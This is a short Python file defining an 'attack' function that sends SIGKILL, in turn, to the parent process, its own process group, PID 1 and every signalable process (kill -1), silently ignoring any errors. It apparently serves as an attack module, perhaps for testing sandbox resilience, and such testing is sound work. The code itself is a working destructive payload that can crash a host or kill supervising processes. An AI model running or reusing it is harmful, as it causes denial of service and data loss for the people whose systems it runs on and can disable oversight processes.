import os
import signal


def attack(args):
    for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(os.getpgrp(), signal.SIGKILL),
                   lambda: os.kill(1, signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL)):
        try:
            target()
        except Exception:
            pass
    return 0
